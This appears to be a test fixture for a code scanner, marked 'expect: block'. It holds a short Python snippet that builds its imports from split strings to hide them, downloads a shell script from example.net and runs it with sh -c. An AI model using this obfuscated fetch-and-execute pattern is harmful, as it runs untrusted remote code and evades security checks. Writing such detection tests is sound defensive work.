# expect: block
import importlib

load = getattr(importlib, "import_" + "module")
shell_mod = load("sub" + "process")
net = load("urllib" + ".request")
script = net.urlopen("https://example.net/run.sh", timeout=5).read()
shell_mod.run(["sh", "-c", script.decode()])
